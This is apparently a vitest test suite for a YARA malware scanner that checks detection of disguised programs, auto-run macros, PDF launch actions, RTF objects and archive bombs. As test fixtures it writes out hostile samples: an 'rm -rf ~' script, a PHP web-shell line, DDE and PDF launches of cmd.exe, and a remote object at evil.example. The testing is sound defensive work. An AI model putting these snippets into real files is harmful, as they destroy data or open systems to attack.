import { execFileSync } from 'node:child_process'
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { deflateSync, gzipSync } from 'node:zlib'
import fc from 'fast-check'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { Allowance } from '../../../src/adapters/scanner/contents/allowance.ts'
import { openCompoundFile } from '../../../src/adapters/scanner/contents/compound-file.ts'
import { createYaraScanner } from '../../../src/adapters/scanner/yara/scanner.ts'
import type { Scanner } from '../../../src/domain/ports/virus-scanner.ts'
import {
  compoundFile,
  mail,
  objectStream,
  office,
  type Packed,
  pdf,
  pdfStream,
  tar,
  vbaProject,
  zip,
} from '../../support/archives.ts'
import { EICAR } from '../../support/clamd.ts'

const MAX_BYTES = 5_242_880
const text = (content: string) => Buffer.from(content)

let scanner: Scanner
beforeAll(async () => {
  // Longer than anybody would wait for it: on a busy machine, another limit would be met too late.
  scanner = await createYaraScanner({ timeLimitMs: 150_000 })
})
afterAll(() => scanner.close())

async function findingIn(bytes: Buffer, name: string): Promise<string | null> {
  const { outcome, finding } = await scanner.scan(bytes, name)
  expect(outcome).toBe(finding === null ? 'clean' : finding.startsWith('Archive.') ? 'failed' : 'infected')
  return finding
}

const program = Buffer.alloc(1024)
program.write('MZ')
program.writeUInt32LE(0x80, 0x3c)
program.write('PE\0\0', 0x80)
const elf = text('\x7fELF\x02\x01\x01')
const png = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==',
  'base64',
)
const shortcut = Buffer.from('4c0000000114020000000000c000000000000046', 'hex')
const nested = (depth: number, core: Packed): Buffer =>
  zip([depth === 0 ? core : { name: `${depth}.zip`, bytes: nested(depth - 1, core) }])
const eicarFile = { name: 'eicar.com', bytes: EICAR }

describe('The built-in rules find', () => {
  const autoOpen = 'Attribute VB_Name = "ThisDocument"\r\nPrivate Sub Document_Open()\r\n  Shell "calc"\r\nEnd Sub\r\n'
  const rtfObject = (name: string) => Buffer.concat([text('\x01\x05\0\0\x02\0\0\0\x08\0\0\0'), text(`${name}\0`)])
  const spread = (bytes: Buffer) => bytes.toString('hex').replace(/../g, '$&\r\n{\\*\\x}')

  it.each<[string, string, string, Buffer]>([
    ['the test file', 'Eicar-Test-File', 'a.txt', EICAR],
    ['it with other text around it', 'Eicar-Test-File', 'a.md', Buffer.concat([text('See: '), EICAR, text('\n')])],
    ['it in a zip', 'Eicar-Test-File', 'a.zip', zip([{ name: 'readme', bytes: text('x') }, eicarFile])],
    ['it in a stored member', 'Eicar-Test-File', 'a.zip', zip([{ ...eicarFile, stored: true }])],
    ['it in a zip in a zip in a zip', 'Eicar-Test-File', 'a.zip', nested(3, eicarFile)],
    ['it in a zip behind a picture', 'Eicar-Test-File', 'a.png', zip([eicarFile], { prefix: png })],
    ['it in a gzip', 'Eicar-Test-File', 'a.gz', gzipSync(EICAR)],
    ['it in the second part of a gzip', 'Eicar-Test-File', 'a.gz', Buffer.concat([gzipSync('a'), gzipSync(EICAR)])],
    ['it in a tar.gz', 'Eicar-Test-File', 'a.tgz', gzipSync(tar([{ name: 'a', bytes: text('a') }, eicarFile]))],
    ['it in a gzip in a tar', 'Eicar-Test-File', 'a.tar', tar([{ name: 'a.gz', bytes: gzipSync(EICAR) }])],
    [
      'it in a picture of a document',
      'Eicar-Test-File',
      'a.docx',
      office('word', [{ name: 'word/media/1.png', bytes: EICAR }]),
    ],
    [
      'it in what a PDF attaches',
      'Eicar-Test-File',
      'a.pdf',
      pdf(pdfStream('/Type /EmbeddedFile /Filter /FlateDecode', deflateSync(EICAR))),
    ],
    ['a Windows program as PDF', 'Disguised.Program', 'invoice.pdf', program],
    ['one in a zip', 'Disguised.Program', 'a.zip', zip([{ name: 'scans/invoice.JPG', bytes: program }])],
    ['one whose name ends with dots and spaces', 'Disguised.Program', 'invoice.docx . .', program],
    ['one that hides its extension', 'Disguised.Program', 'invoice.pdf.exe', program],
    ['one whose name runs backwards', 'Disguised.Program', 'invoice\u202efdp.exe', program],
    ['a Linux program as picture', 'Disguised.Program', 'holiday.jpeg', elf],
    ['a Mac program as text', 'Disguised.Program', 'notes.txt', Buffer.from('cffaedfe07000001', 'hex')],
    ['a shell script as PDF', 'Disguised.Script', 'invoice.pdf', text('#!/bin/sh\nrm -rf ~\n')],
    ['a script behind a byte order mark', 'Disguised.Script', 'a.docx', text('\ufeff#! /usr/bin/env python3\n')],
    ['PHP as picture', 'Disguised.Script', 'a.png', text('<?php system($_GET[0]);')],
    ['a page with a script as PDF', 'Disguised.Script', 'a.pdf', text('<html><script>location="//evil"</script>')],
    ['an old document with a macro that runs', 'Office.AutoMacro', 'a.doc', vbaProject(autoOpen)],
    ['one with its source taken out', 'Office.AutoMacro', 'a.doc', vbaProject('', 'Document_Open Shell')],
    [
      'a new one with a macro that runs',
      'Office.AutoMacro',
      'a.docm',
      office('word', [{ name: 'word/vbaProject.bin', bytes: vbaProject(autoOpen) }]),
    ],
    [
      'one whose project has another name',
      'Office.AutoMacro',
      'a.docx',
      office('word', [{ name: 'word/x.bin', bytes: vbaProject(autoOpen) }]),
    ],
    [
      'a workbook that runs in a zip',
      'Office.AutoMacro',
      'a.zip',
      zip([
        {
          name: 'b.xlsm',
          bytes: office('xl', [{ name: 'xl/vbaProject.bin', bytes: vbaProject('sub  AUTO_OPEN ()\r\n') }]),
        },
      ]),
    ],
    [
      'a macro under a name without macros',
      'Office.HiddenMacro',
      'a.docx',
      office('word', [{ name: 'word/vbaProject.bin', bytes: vbaProject('Sub Tidy()\r\n') }]),
    ],
    [
      'a sheet of Excel 4 macros',
      'Office.ExcelMacroSheet',
      'a.xlsm',
      office('xl', [{ name: 'xl/macrosheets/sheet1.xml', bytes: text('<x/>') }]),
    ],
    [
      'one in an old workbook',
      'Office.ExcelMacroSheet',
      'a.xls',
      compoundFile([{ name: 'Workbook', bytes: Buffer.from('09081000000605008500080011223344020141', 'hex') }]),
    ],
    [
      'a field that starts a program',
      'Office.Dde',
      'a.docx',
      office('word', [
        {
          name: 'word/footer1.xml',
          bytes: text('<w:instrText xml:space="preserve"> DDEAUTO c:\\\\cmd.exe "/k"</w:instrText>'),
        },
      ]),
    ],
    [
      'a program in a document',
      'Office.PackagedProgram',
      'a.doc',
      compoundFile([
        { name: '\x01Ole10Native', bytes: text('\x40\0\0\0\x02\0invoice.pdf.exe\0C:\\invoice.pdf.exe\0') },
      ]),
    ],
    [
      'an object from outside',
      'Office.RemoteObject',
      'a.docx',
      office('word', [
        {
          name: 'word/_rels/document.xml.rels',
          bytes: text(
            '<Relationship Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/oleObject" Target="https://evil.example/a.html!" TargetMode="External"/>',
          ),
        },
      ]),
    ],
    [
      'a PDF that launches',
      'Pdf.Launch',
      'a.pdf',
      pdf('<< /Type /Catalog /OpenAction << /S /Launch /F (cmd.exe) >> >>'),
    ],
    [
      'one that spells it otherwise',
      'Pdf.Launch',
      'a.pdf',
      pdf('<< /Type /Catalog /OpenAction << /S /L#61unc#68 /F (cmd.exe) >> >>'),
    ],
    [
      'one that packs it',
      'Pdf.Launch',
      'a.pdf',
      pdf('<< /Type /Catalog >>', objectStream('1 0 << /S /Launch /F (cmd.exe) >>')),
    ],
    [
      'a PDF whose script runs',
      'Pdf.AutoScript',
      'a.pdf',
      pdf('<< /OpenAction 2 0 R >>', '<< /S /JavaScript /JS (app.alert\\(1\\)) >>'),
    ],
    [
      'one that packs its parts apart',
      'Pdf.AutoScript',
      'a.pdf',
      pdf(objectStream('1 0 << /OpenAction 9 0 R >>'), objectStream('9 0 << /S /JavaScript /JS 10 0 R >>')),
    ],
    [
      'a page whose script runs',
      'Pdf.AutoScript',
      'a.pdf',
      pdf('<< /Type /Page /AA << /O << /S /JavaScript /JS (x) >> >> >>'),
    ],
    ['a program in a PDF', 'Disguised.Program', 'a.pdf', pdf(pdfStream('/Type /Embedded#46ile', program))],
    [
      'a package in RTF',
      'Rtf.Object',
      'a.rtf',
      text(`{\\rtf1{\\object\\objemb{\\*\\objdata ${spread(rtfObject('Package'))}}}}`),
    ],
    [
      'the equation editor in RTF',
      'Rtf.Object',
      'a.doc',
      text(`{\\rt{\\object{\\*\\objdata${spread(rtfObject('eQuation.3'))}}}}`),
    ],
    [
      'an RTF object that loads by itself',
      'Rtf.AutoObject',
      'a.rtf',
      text('{\\rtf1{\\object\\objautlink\\objupdate{\\*\\objdata 01}}}'),
    ],
    [
      'a macro that runs, embedded in RTF',
      'Office.AutoMacro',
      'a.rtf',
      text(
        `{\\rtf1{\\object{\\*\\objdata ${Buffer.concat([rtfObject('Word.Document.8'), vbaProject(autoOpen)]).toString('hex')}}}}`,
      ),
    ],
    ['a shortcut', 'Launcher.Shortcut', 'report.lnk', shortcut],
    ['a program attached to a saved mail', 'Disguised.Program', 'a.eml', mail('invoice.pdf', program)],
    ['a zip attached to a saved mail', 'Eicar-Test-File', 'a.eml', mail('a.zip', zip([eicarFile]))],
    ['macros of a document saved as page', 'Office.HiddenMacro', 'a.doc', mail('editdata.mso', text('ActiveMime\0\0'))],
    [
      'a document in a saved message',
      'Office.AutoMacro',
      'a.msg',
      compoundFile([
        {
          name: '__substg1.0_37010102',
          bytes: office('word', [{ name: 'word/vbaProject.bin', bytes: vbaProject(autoOpen) }]),
        },
      ]),
    ],
    [
      'a program in a note',
      'Office.PackagedProgram',
      'a.one',
      Buffer.concat([
        Buffer.from('e4525c7b8cd8a74daeb15378d02996d3', 'hex'),
        Buffer.from('e716e3bd65261145a4c48d4d0b7a9eac', 'hex'),
        Buffer.alloc(20),
        program,
      ]),
    ],
    ['a shortcut in a zip', 'Launcher.Shortcut', 'a.zip', zip([{ name: 'report.txt', bytes: shortcut }])],
    ['an HTML application', 'Launcher.Hta', 'a.html', text('<html><HTA:APPLICATION id=a><script>run()</script>')],
    ['a script named as one', 'Launcher.Hta', 'a.hta', text('<script language="VBScript">x</script>')],
  ])('%s, also among other files', async (_, finding, name, bytes) => {
    expect(await findingIn(bytes, name)).toBe(finding)
    // Asked about together with them, in the rules' weaker form.
    const others = Array.from({ length: 20 }, (_, n) => ({ name: `${n}.txt`, bytes: text(`text ${n}`) }))
    expect(await findingIn(zip([...others, { name, bytes }]), 'a.zip')).toBe(finding)
  })
})

describe('The built-in rules leave clean', () => {
  const form = pdf(
    '<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [3 0 R] >> /OpenAction [2 0 R /XYZ null null null] >>',
    '<< /Type /Pages /Kids [] /Count 0 >>',
    '<< /FT /Tx /T (amount) /AA << /K << /S /JavaScript /JS (AFNumber_Keystroke\\(2\\);) >> >> >>',
    pdfStream('/Filter /FlateDecode', deflateSync(text('BT (Launch of the product) Tj ET'))),
    objectStream('5 0 << /Type /Annot /Subtype /Link /A << /S /URI /URI (https://diwan.example) >> >>'),
    pdfStream('/Type /EmbeddedFile /Filter /FlateDecode', deflateSync(text('<invoice/>'))),
  )
  const macro = vbaProject('Attribute VB_Name = "Module1"\r\n\' Not an AutoOpen\r\nSub Tidy()\r\nEnd Sub\r\n')

  it.each<[string, string, Buffer]>([
    ['nothing at all', 'empty.txt', Buffer.alloc(0)],
    ['Arabic text', 'محضر الاجتماع.txt', text('محضر اجتماع مجلس الإدارة، الرياض\n'.repeat(100))],
    ['text on macros', 'macros.txt', text('AutoOpen and Document_Open run when Word opens a file. Sub AutoOpen() …')],
    ['text on PDF', 'pdf.md', text('A /Launch action in /OpenAction starts a program; /JavaScript a script.')],
    ['text on shortcuts', 'lnk.txt', text('A .lnk or <hta:application> in a mail is a bad sign.')],
    ['a picture', 'logo.png', png],
    ['a photograph', 'photo.jpg', Buffer.from('ffd8ffe000104a46494600010100000100010000ffd9', 'hex')],
    ['a PDF with a form, a link, packed objects and an attachment', 'form.pdf', form],
    ['a document', 'report.docx', office('word')],
    [
      'a workbook',
      'plan.xlsx',
      office('xl', [{ name: 'xl/worksheets/sheet1.xml', bytes: text('<c><v>1</v></c>'.repeat(50_000)) }]),
    ],
    [
      'a document with a document in it',
      'a.docx',
      office('word', [{ name: 'word/embeddings/b.xlsx', bytes: office('xl') }]),
    ],
    [
      'a document with a macro that waits',
      'tidy.docm',
      office('word', [{ name: 'word/vbaProject.bin', bytes: macro }]),
    ],
    ['an old document', 'old.doc', compoundFile([{ name: 'WordDocument', bytes: Buffer.alloc(6000, 'AutoOpen ') }])],
    [
      'an RTF with a picture and an Excel object',
      'a.rtf',
      text(
        `{\\rtf1 {\\pict\\pngblip ${png.toString('hex')}}{\\object\\objemb{\\*\\objdata 0105000002000000080000004578 63656c2e3800}}}`,
      ),
    ],
    ['a Python script', 'tool.py', text('#!/usr/bin/env python3\nprint("سلام")\n')],
    ['a shell script', 'deploy.sh', text('#!/bin/sh\nset -e\n')],
    ['a script sent as text', 'deploy.sh.txt', text('#!/bin/sh\nset -e\n')],
    ['a page', 'index.html', text('<!doctype html><html><script>1</script></html>')],
    ['a report saved as page for Excel', 'report.xls', text('<html><table><tr><td>1</td></tr></table></html>')],
    ['a program that says it is one', 'setup.exe', program],
    [
      'a zip of sources',
      'src.zip',
      zip([
        { name: 'src/', bytes: Buffer.alloc(0), stored: true },
        { name: 'src/a.sh', bytes: text('#!/bin/sh\n') },
      ]),
    ],
    ['a saved mail', 'a.eml', mail('logo.png', png)],
    ['an empty zip', 'empty.zip', zip([])],
    [
      'a zip with a long comment',
      'a.zip',
      (() => {
        const bytes = Buffer.concat([zip([{ name: 'a', bytes: text('a') }]), Buffer.alloc(60_000, 'c')])
        bytes.writeUInt16LE(60_000, bytes.length - 60_002)
        return bytes
      })(),
    ],
    [
      'a tar.gz',
      'src.tar.gz',
      gzipSync(
        tar([
          { name: 'a/', bytes: Buffer.alloc(0), type: '5' },
          { name: 'a/b.py', bytes: text('#!/usr/bin/python\n') },
        ]),
      ),
    ],
    ['an empty picture that packs well', 'blank.zip', zip([{ name: 'blank.bmp', bytes: Buffer.alloc(10_000_000) }])],
    ['text that begins like an archive', 'pk.txt', text('PK is a good footballer. BZ too, and MZ, and 7z.')],
  ])('%s', async (_, name, bytes) => {
    expect(await findingIn(bytes, name)).toBeNull()
  })
})

describe('What cannot be looked into whole is never clean:', () => {
  const zeros = (megabytes: number) => Buffer.alloc(megabytes * 1024 * 1024)
  const plain = zip([
    { name: 'a.txt', bytes: text('a'.repeat(1000)) },
    { name: 'b.txt', bytes: text('b') },
  ])
  /** Every entry of the directory shows the same bytes. */
  const overlapping = (times: number) => {
    const one = zip([{ name: 'a', bytes: zeros(1) }])
    const start = one.readUInt32LE(one.length - 6)
    const entry = one.subarray(start, one.length - 22)
    const end = Buffer.from(one.subarray(-22))
    end.writeUInt16LE(times, 8)
    end.writeUInt16LE(times, 10)
    end.writeUInt32LE(entry.length * times, 12)
    return Buffer.concat([one.subarray(0, start), ...Array<Buffer>(times).fill(entry), end])
  }

  it.each<[string, string, string, Buffer]>([
    [
      'a zip bomb',
      'Archive.Bomb',
      'a.zip',
      zip(Array.from({ length: 40 }, (_, i) => ({ name: `${i}`, bytes: zeros(10) }))),
    ],
    ['a gzip bomb', 'Archive.Bomb', 'a.gz', gzipSync(zeros(100))],
    ['a bomb in bombs', 'Archive.Bomb', 'a.zip', nested(4, { name: 'a', bytes: zeros(64) })],
    ['entries that share their bytes', 'Archive.Bomb', 'a.zip', overlapping(500)],
    ['a tar bomb', 'Archive.Bomb', 'a.tar.gz', gzipSync(gzipSync(tar([{ name: 'a', bytes: zeros(60) }])))],
    [
      'a bomb in a PDF',
      'Archive.Bomb',
      'a.pdf',
      pdf(pdfStream('/Type /ObjStm /Filter /FlateDecode', deflateSync(zeros(30)))),
    ],
    ['a zip in a zip and so on', 'Archive.TooDeep', 'a.zip', nested(12, { name: 'a', bytes: text('a') })],
    [
      'a zip of 60,000 entries',
      'Archive.TooMany',
      'a.zip',
      zip(Array.from({ length: 60_000 }, (_, i) => ({ name: `${i}`, bytes: Buffer.alloc(0), stored: true }))),
    ],
    ['a zip with a password', 'Archive.Encrypted', 'a.zip', zip([{ name: 'a', bytes: text('secret'), flags: 1 }])],
    [
      'a document with a password',
      'Archive.Encrypted',
      'a.docx',
      compoundFile([{ name: 'EncryptedPackage', bytes: text('x') }]),
    ],
    [
      'a PDF with a password',
      'Archive.Encrypted',
      'a.pdf',
      pdf('<< /Encrypt 2 0 R >>', pdfStream('/Type /ObjStm /Filter /FlateDecode', text('x'))),
    ],
    [
      'a zip packed in an unknown way',
      'Archive.Unsupported',
      'a.zip',
      zip([{ name: 'a', bytes: text('a'), method: 14 }]),
    ],
    ['a 7z', 'Archive.Unsupported', 'a.7z', Buffer.from('377abcaf271c0004', 'hex')],
    [
      'a rar in a zip',
      'Archive.Unsupported',
      'a.zip',
      zip([{ name: 'a.bin', bytes: Buffer.from('526172211a0701003392b5e5', 'hex') }]),
    ],
    ['an xz', 'Archive.Unsupported', 'a.tar.xz', Buffer.from('fd377a585a000004', 'hex')],
    [
      'a PDF with objects packed in an unusual way',
      'Archive.Unsupported',
      'a.pdf',
      pdf(pdfStream('/Type /ObjStm /Filter [/LZWDecode /FlateDecode]', text('00>'))),
    ],
    ['a zip that miscounts', 'Archive.Broken', 'a.zip', zip([{ name: 'a', bytes: text('a') }], { count: 2 })],
    [
      'a zip with bytes that do not unpack',
      'Archive.Broken',
      'a.zip',
      zip([{ name: 'a', bytes: Buffer.alloc(50, 0xff), stored: true, method: 8 }]),
    ],
    ['a gzip cut short', 'Archive.Broken', 'a.gz', gzipSync(text('some text')).subarray(0, -9)],
    ['a tar cut short', 'Archive.Broken', 'a.tar', tar([{ name: 'a', bytes: Buffer.alloc(5000) }]).subarray(0, 2000)],
    [
      'a tar with a header that does not add up',
      'Archive.Broken',
      'a.tar',
      (() => {
        const bytes = tar([
          { name: 'a', bytes: text('a') },
          { name: 'b', bytes: text('b') },
        ])
        bytes.write('x', 1024 + 5)
        return bytes
      })(),
    ],
    [
      'a tar with an absurd size',
      'Archive.Broken',
      'a.tar',
      tar([{ name: 'a', bytes: text('a'), size: '\x80\0\0\0\0\0\x7f\xff\xff\xff\xff\xff' }]),
    ],
    ['a tar whose link has bytes', 'Archive.Broken', 'a.tar', tar([{ name: 'a', bytes: text('a'), type: '2' }])],
    [
      'a compound file that goes round in a circle',
      'Archive.Broken',
      'a.doc',
      (() => {
        const bytes = compoundFile([{ name: 'WordDocument', bytes: Buffer.alloc(6000, 'a') }])
        bytes.writeUInt32LE(6, 512 + 5 * 4)
        return bytes
      })(),
    ],
  ])('%s', async (_, finding, name, bytes) => {
    expect(bytes.length).toBeLessThanOrEqual(MAX_BYTES)
    expect(await findingIn(bytes, name)).toBe(finding)
  })

  it('a zip cut short anywhere', async () => {
    for (let length = 22; length < plain.length; length += 13)
      expect(await findingIn(plain.subarray(0, length), 'a.zip')).toBe('Archive.Broken')
  })

  it('more than 5 MB', async () => {
    await expect(scanner.scan(Buffer.alloc(MAX_BYTES + 1), 'a.bin')).rejects.toThrow('at most 5242880 bytes')
    expect(await findingIn(Buffer.alloc(MAX_BYTES), 'a.bin')).toBeNull()
  })
})

describe('Archives of other programs are opened', () => {
  let folder: string
  beforeAll(() => {
    folder = mkdtempSync(join(tmpdir(), 'diwan-archives-'))
  })
  afterAll(() => rmSync(folder, { recursive: true, force: true }))

  it.each([
    ['gnu', 'long/'.repeat(40)],
    ['pax', 'long/'.repeat(40)],
    ['ustar', 'long/'.repeat(25)],
    ['v7', 'short/'],
  ])('of tar, in its format %s', async (format, path) => {
    mkdirSync(join(folder, format, path), { recursive: true })
    writeFileSync(join(folder, format, path, 'a.gz'), gzipSync(EICAR))
    const made = execFileSync('tar', ['-c', `--format=${format}`, '-C', folder, format])
    expect(await findingIn(made, 'a.tar')).toBe('Eicar-Test-File')
  })
})

it('Macros are unpacked as in the example of the specification (MS-OVBA 3.2.2)', () => {
  const packed = Buffer.from(
    '012fb000236161616263646582660070616768696a013808616b6c00306d6e6f700671027004107273747576107778797a003c',
    'hex',
  )
  const bytes = compoundFile([{ name: 'Module1', bytes: Buffer.concat([Buffer.alloc(70, 0xaa), packed]) }])
  const members = [...openCompoundFile({ name: 'a.bin', part: 'file', bytes }, new Allowance(bytes.length))]
  expect(members.find(({ part }) => part === 'macro')?.bytes.toString()).toBe(
    '#aaabcdefaaaaghijaaaaaklaaamnopqaaaaaaaaaaaarstuvwxyzaaa',
  )
})

describe('Hostile bytes', () => {
  const magic = ['PK\x03\x04', 'PK\x05\x06', '\x1f\x8b\x08', '%PDF-1.4 /ObjStm stream\n', '{\\rtf1\\objdata ', 'MZ', '']
  const samples = [
    zip([{ name: 'a', bytes: text('a') }, eicarFile]),
    gzipSync(tar([eicarFile])),
    tar([eicarFile, { name: 'b', bytes: text('b') }]),
    vbaProject('Sub Tidy()\r\n'),
    pdf(objectStream('1 0 << >>')),
    office('word', [{ name: 'word/vbaProject.bin', bytes: vbaProject('Sub Tidy()\r\n') }]),
  ]
  const expectVerdict = async (bytes: Buffer, name: string) => {
    expect(['clean', 'infected', 'failed']).toContain((await scanner.scan(bytes, name)).outcome)
  }

  it('get a verdict, whatever they and their names are', async () => {
    const bytes = fc.tuple(fc.constantFrom(...magic), fc.uint8Array({ maxLength: 3000 }))
    await fc.assert(
      fc.asyncProperty(bytes, fc.string({ unit: 'binary' }), ([head, tail], name) =>
        expectVerdict(Buffer.concat([Buffer.from(head, 'latin1'), tail]), name),
      ),
      { numRuns: 60 },
    )
  })

  it('get a verdict when they are archives with a few bytes changed', async () => {
    const changes = fc.array(fc.tuple(fc.nat(), fc.integer({ min: 0, max: 255 })), { minLength: 1, maxLength: 5 })
    await fc.assert(
      fc.asyncProperty(fc.constantFrom(...samples), changes, async (sample, changed) => {
        const bytes = Buffer.from(sample)
        for (const [at, value] of changed) bytes[at % bytes.length] = value
        await expectVerdict(bytes, 'a.bin')
      }),
      { numRuns: 60 },
    )
  })
})

describe("The operator's rules", () => {
  let folder: string
  beforeAll(() => {
    folder = mkdtempSync(join(tmpdir(), 'diwan-rules-'))
  })
  afterAll(() => rmSync(folder, { recursive: true, force: true }))

  it('are used besides ours, inside archives too, and may ask for the name of the file', async () => {
    writeFileSync(join(folder, 'a.yar'), 'rule secret_project { strings: $a = "Falcon" nocase condition: $a }')
    writeFileSync(
      join(folder, 'b.yara'),
      'rule secret_project { meta: finding = "Acme.Export" condition: extension == "qif" and filename startswith "acme" }',
    )
    writeFileSync(join(folder, 'notes.txt'), 'not a rule')
    const own = await createYaraScanner({ rulesFolder: folder })
    const engine = expect.stringMatching(/^YARA-X \d+\.\d+\.\d+, built-in rules and 2 of the operator's files$/)
    expect(await own.scan(zip([{ name: 'a', bytes: text('falcon') }]), 'a.zip')).toEqual({
      outcome: 'infected',
      engine,
      finding: 'secret_project',
    })
    expect(await own.scan(text('x'), 'acme-2024.QIF')).toMatchObject({ finding: 'Acme.Export' })
    expect(await own.scan(EICAR, 'a.txt')).toMatchObject({ finding: 'Eicar-Test-File' })
    expect(await own.scan(text('x'), 'a.txt')).toEqual({ outcome: 'clean', engine, finding: null })
    await own.close()
    await expect(own.scan(text('x'), 'a.txt')).rejects.toThrow('closed')
  })

  it.each([
    ['rule broken {\n  condition: $a\n}', 'unknown pattern `$a` at line 2, column 14'],
    ['rule broken {', 'syntax error at line 1, column 14'],
    ['import "cuckoos"', 'unknown module `cuckoos` at line 1, column 1'],
  ])('that do not compile stop the start with one line: %j', async (rules, problem) => {
    const bad = mkdtempSync(join(folder, 'bad-'))
    writeFileSync(join(bad, 'mine.yar'), rules)
    const start = createYaraScanner({ rulesFolder: bad })
    const error = await start.then(
      () => undefined,
      (thrown: Error) => thrown,
    )
    expect(error?.message).toContain(`${join(bad, 'mine.yar')}: ${problem}`)
    expect(error?.message).not.toContain('\n')
  })

  it('in a folder that is not there stop the start', async () => {
    await expect(createYaraScanner({ rulesFolder: join(folder, 'nowhere') })).rejects.toThrow('nowhere')
  })

  it('that take too long give no verdict, and the next scan goes on', { tags: 'long' }, async () => {
    const slow = mkdtempSync(join(folder, 'slow-'))
    writeFileSync(join(slow, 'slow.yar'), 'rule slow { strings: $a = /a.*b.*c.*d/s condition: $a }')
    const limited = await createYaraScanner({ rulesFolder: slow, timeLimitMs: 1_500 })
    const late = limited.scan(Buffer.alloc(1_000_000, 'a'), 'a.txt')
    const next = limited.scan(EICAR, 'a.txt')
    await expect(late).rejects.toThrow('gave no answer in 1500 ms')
    expect(await next).toMatchObject({ finding: 'Eicar-Test-File' })
    const interrupted = limited.scan(Buffer.alloc(1_000_000, 'a'), 'a.txt')
    const failure = expect(interrupted).rejects.toThrow()
    await new Promise(resolve => setTimeout(resolve, 300))
    await limited.close()
    await failure
  })
})
